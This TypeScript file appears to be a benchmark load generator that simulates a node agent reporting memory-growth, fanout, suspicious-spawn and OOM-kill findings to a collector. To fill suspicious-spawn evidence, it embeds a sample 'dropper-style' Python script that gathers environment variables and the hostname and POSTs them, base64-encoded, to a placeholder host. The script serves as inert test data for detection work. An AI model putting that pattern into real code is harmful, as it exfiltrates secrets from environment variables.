// What one simulated agent reports, for the collector benchmark: a node with a fixed set of
// targets (processes and containers in pods), a bounded set of live findings of every kind that
// are opened, updated (same id, later updatedAt) and resolved, and the memory series of its
// targets. Events are serialised as they are made, so a later update of the same finding cannot
// change what an earlier, still queued event says.
import { prng } from '../../common/prng.js';
import type { Finding, FindingTarget } from '../../protocol/findings.js';
import type { FindingChange, SeriesPoint, TargetInfo } from '../../protocol/messages.js';
import { fanoutFinding, growthFinding, oomFinding, spawnFinding } from '../../test/support/sample-findings.js';

/** One finding change as it goes on the wire; `opened` is the id it opened, if it opened one. */
export interface WireEvent {
  json: string;
  opened: string | null;
}

export interface NodeFindingsOptions {
  node: string;
  /** Distinguishes nodes in ids (ids are `<kind>-<16 hex>`). */
  nodeIndex: number;
  /**
   * Live findings held at once (each event picks one). The watcher sends an update at most every
   * 5 s per finding, so 25 events/s from one node (5,000/s from 200) means 125+ open findings.
   */
  slots?: number;
  /** Targets on the node (findings and series refer to them). */
  targets?: number;
  /** Chance that an event on a live finding resolves it rather than updating it (~3 % opens). */
  resolveChance?: number;
  /** Default: seeded by nodeIndex, so every run makes the same findings in the same order. */
  random?: () => number;
}

/** Kinds of newly opened findings, by weight: growth dominates, spawns carry scripts of a few KiB. */
const KIND_WEIGHTS: Array<[Finding['kind'], number]> = [
  ['growth', 0.5],
  ['fanout', 0.2],
  ['suspicious-spawn', 0.15],
  ['oom-kill', 0.15],
];

const NAMESPACES = ['payments', 'checkout', 'search', 'batch', 'ml-serving', 'kube-system'];
const COMMS: Array<[string, string]> = [
  ['node', 'node /app/dist/server.js --port 8080'],
  ['python3', 'python3 -m gunicorn app:server --workers 4'],
  ['java', 'java -Xmx512m -jar /app/service.jar'],
  ['ruby', 'bundle exec puma -C config/puma.rb'],
];

// A realistic dropper-style Python script, long enough to cut 2-6 KiB bodies from.
const SCRIPT_BODY = (() => {
  const lines = [
    'import base64, json, os, socket, subprocess, sys, time',
    'from urllib import request',
    '',
    'CONFIG = {"endpoint": "https://metrics-collector.example.net/v2/ingest", "interval": 30}',
    '',
    'def collect():',
    '    env = {k: v for k, v in os.environ.items() if not k.startswith("_")}',
    '    host = socket.gethostname()',
    '    return {"host": host, "env": env, "pid": os.getpid(), "ts": time.time()}',
    '',
    'def send(payload):',
    '    data = base64.b64encode(json.dumps(payload).encode()).decode()',
    '    req = request.Request(CONFIG["endpoint"], data=data.encode(), method="POST")',
    '    req.add_header("Content-Type", "text/plain")',
    '    try:',
    '        request.urlopen(req, timeout=5).read()',
    '    except Exception as exc:  # keep going whatever happens',
    '        sys.stderr.write(f"retry later: {exc}\\n")',
    '',
  ];
  let text = '';
  for (let i = 0; text.length < 8 * 1024; i++) text += `${lines[i % lines.length]!}${i % lines.length === 0 ? `  # block ${i}` : ''}\n`;
  return text;
})();

interface Live {
  finding: Finding;
}

export class NodeFindings {
  readonly node: string;
  private readonly nodeIndex: number;
  private readonly random: () => number;
  private readonly resolveChance: number;
  private readonly slots: Array<Live | null>;
  private readonly targetList: Array<{ info: TargetInfo; target: FindingTarget; baseBytes: number; limitBytes: number }>;
  private counter = 0;
  /** Series start when the agent does: its first message carries seconds, not an hour of backfill. */
  private lastSeriesMs = Math.floor(Date.now() / 1000) * 1000 - 1000;

  constructor(options: NodeFindingsOptions) {
    this.node = options.node;
    this.nodeIndex = options.nodeIndex;
    this.random = options.random ?? prng(0x1eac + options.nodeIndex);
    this.resolveChance = options.resolveChance ?? 0.03;
    this.slots = new Array<Live | null>(options.slots ?? 150).fill(null);
    const now = Date.now();
    this.targetList = Array.from({ length: options.targets ?? 30 }, (_, t) => {
      const [comm, cmdline] = COMMS[t % COMMS.length]!;
      const namespace = NAMESPACES[(this.nodeIndex + t) % NAMESPACES.length]!;
      const pod = `${namespace}-${comm.replace(/\d/g, '')}-${this.nodeIndex.toString(36)}${t.toString(36)}-x7k2q`;
      const containerId = hex64(this.nodeIndex * 1000 + t);
      const pid = 1000 + t * 37;
      const container = t % 3 !== 2;
      const info: TargetInfo = container
        ? { targetKey: `ctr:/kubepods/burstable/pod${this.nodeIndex}-${t}/${containerId}`, kind: 'container', pid: null, ppid: null, comm: null, cmdline: null, namespace, pod, podUid: `uid-${this.nodeIndex}-${t}`, container: 'app', containerId }
        : { targetKey: `proc:${pid}:${now - 3_600_000}`, kind: 'process', pid, ppid: 1, comm, cmdline, namespace, pod, podUid: `uid-${this.nodeIndex}-${t}`, container: 'app', containerId };
      const target: FindingTarget = { pid, comm, cmdline, namespace, pod, podUid: info.podUid, container: 'app', containerId };
      return { info, target, baseBytes: 150 * 1048576 + t * 7 * 1048576, limitBytes: 512 * 1048576 };
    });
  }

  /** The next finding change: opens a finding in an empty slot, else updates or resolves the slot's. */
  next(nowMs: number): WireEvent {
    const i = Math.floor(this.random() * this.slots.length);
    const live = this.slots[i];
    if (!live) {
      const finding = this.open(nowMs);
      this.slots[i] = { finding };
      return { json: eventJson('open', finding), opened: finding.id };
    }
    const f = live.finding;
    f.updatedAt = Math.max(nowMs, f.updatedAt + 1);
    if (this.random() < this.resolveChance) {
      f.status = 'resolved';
      this.slots[i] = null;
      return { json: eventJson('resolve', f), opened: null };
    }
    this.evolve(f, nowMs);
    return { json: eventJson('update', f), opened: null };
  }

  /** Every target's memory since the last call, one point a second (at most `maxSeconds`). */
  series(nowMs: number, maxSeconds: number): { targets: TargetInfo[]; points: SeriesPoint[] } {
    const from = Math.max(this.lastSeriesMs + 1000, nowMs - maxSeconds * 1000);
    const points: SeriesPoint[] = [];
    for (const t of this.targetList) {
      for (let at = from; at <= nowMs; at += 1000) {
        const s = Math.floor(at / 1000);
        points.push({
          targetKey: t.info.targetKey,
          atMs: s * 1000,
          anonBytes: t.baseBytes + (s % 600) * 65536 + (s % 7) * 4096,
          workingSetBytes: t.info.kind === 'container' ? t.baseBytes + 40 * 1048576 : null,
          limitBytes: t.limitBytes,
        });
      }
    }
    this.lastSeriesMs = Math.floor(nowMs / 1000) * 1000;
    return { targets: this.targetList.map((t) => t.info), points };
  }

  private open(nowMs: number): Finding {
    const n = this.counter++;
    const kind = pickKind(this.random());
    const id = `${kind === 'suspicious-spawn' ? 'spawn' : kind}-${this.nodeIndex.toString(16).padStart(4, '0')}${n.toString(16).padStart(12, '0')}`;
    const t = this.targetList[Math.floor(this.random() * this.targetList.length)]!;
    let f: Finding;
    switch (kind) {
      case 'growth': {
        const g = ofKind(growthFinding(id, this.node, nowMs), 'growth');
        f = g;
        g.details.scope = t.info.kind;
        g.details.currentBytes = t.baseBytes;
        g.details.limitBytes = t.limitBytes;
        g.details.slopeBytesPerSec = 262_144 + Math.floor(this.random() * 2_000_000);
        g.details.etaSec = Math.round((t.limitBytes - t.baseBytes) / g.details.slopeBytesPerSec);
        g.details.confidence = 0.9 + this.random() * 0.1;
        f.summary = `${t.target.comm} (pid ${t.target.pid}) in ${t.target.namespace}/${t.target.pod}/app grows ${(g.details.slopeBytesPerSec / 1048576).toFixed(1)}MiB/s, reaches its limit in ${Math.ceil(g.details.etaSec / 60)}m`;
        break;
      }
      case 'fanout': {
        const fo = ofKind(fanoutFinding(id, this.node, nowMs), 'fanout');
        f = fo;
        fo.details.parent = { pid: t.target.pid ?? 1, comm: t.target.comm ?? 'sh', cmdline: t.target.cmdline ?? 'sh' };
        fo.details.sampleChildren = Array.from({ length: 5 }, (_, c) => ({ pid: 20_000 + n * 5 + c, comm: 'python3', cmdline: `python3 -c "import worker; worker.run(${c})"` }));
        f.summary = `${t.target.comm} (pid ${t.target.pid}) keeps ${fo.details.childrenAlive} children in ${t.target.namespace}/${t.target.pod}`;
        break;
      }
      case 'suspicious-spawn': {
        // Distinct bytes per spawn: each new one is a new evidence blob on the collector.
        const size = 2048 + Math.floor(this.random() * 4096);
        const content = `#!/usr/bin/env python3\n# dropped as ${id}\n${SCRIPT_BODY.slice(0, size)}`;
        const sp = ofKind(spawnFinding(id, this.node, nowMs, content), 'suspicious-spawn');
        f = sp;
        const path = `/tmp/tmp${n.toString(36)}${this.nodeIndex.toString(36)}.py`;
        sp.details.argv = ['python3', path];
        sp.details.parentChain = [
          { pid: t.target.pid ?? 1, comm: t.target.comm ?? 'sh', cmdline: t.target.cmdline ?? 'sh' },
          { pid: 1, comm: 'tini', cmdline: '/sbin/tini -- /app/entrypoint.sh' },
        ];
        if (sp.details.script) {
          sp.details.script.path = path;
          sp.details.script.sha256 = null;
        }
        f.summary = `suspicious spawn: python3 (pid ${30_000 + (n % 30_000)}) running ${path}`;
        break;
      }
      case 'oom-kill': {
        const o = ofKind(oomFinding(id, this.node, nowMs), 'oom-kill');
        f = o;
        o.details.victim = { pid: t.target.pid, ppid: null, comm: t.target.comm, cmdline: t.target.cmdline, lastRssAnonBytes: t.limitBytes - 1048576 };
        o.details.memcg = t.info.kind === 'container' ? t.info.targetKey.slice(4) : null;
        f.summary = `OOM kill of ${t.target.comm} (pid ${t.target.pid}) in ${t.target.namespace}/${t.target.pod}`;
        break;
      }
    }
    f.target = { ...t.target };
    return f;
  }

  /** What changes between two reports of the same finding. */
  private evolve(f: Finding, nowMs: number): void {
    switch (f.kind) {
      case 'growth': {
        const d = f.details;
        d.currentBytes = Math.min((d.limitBytes ?? Infinity) - 1, d.currentBytes + Math.round(d.slopeBytesPerSec * (nowMs - d.windowEndMs) / 1000));
        d.windowEndMs = nowMs;
        d.etaSec = d.limitBytes === null ? null : Math.max(0, Math.round((d.limitBytes - d.currentBytes) / d.slopeBytesPerSec));
        break;
      }
      case 'fanout':
        f.details.childrenSeen++;
        f.details.childrenAlive = Math.min(400, f.details.childrenAlive + 1);
        f.details.childrenAnonBytes += 10 * 1048576;
        break;
      case 'suspicious-spawn':
        f.details.occurrences++;
        f.details.pids = [...f.details.pids.slice(-9), 30_000 + (f.details.occurrences % 30_000)];
        break;
      case 'oom-kill':
        f.details.containerSurvived = !f.details.containerSurvived;
        break;
    }
  }
}

/** The sample builders return the Finding union; each is known to make one kind. */
function ofKind<K extends Finding['kind']>(f: Finding, kind: K): Extract<Finding, { kind: K }> {
  if (f.kind !== kind) throw new Error(`expected a ${kind} finding, got ${f.kind}`);
  return f as Extract<Finding, { kind: K }>;
}

function eventJson(change: FindingChange, finding: Finding): string {
  return JSON.stringify({ change, finding });
}

function pickKind(r: number): Finding['kind'] {
  let acc = 0;
  for (const [kind, w] of KIND_WEIGHTS) {
    acc += w;
    if (r < acc) return kind;
  }
  return 'growth';
}

function hex64(n: number): string {
  return n.toString(16).padStart(8, '0').repeat(8);
}
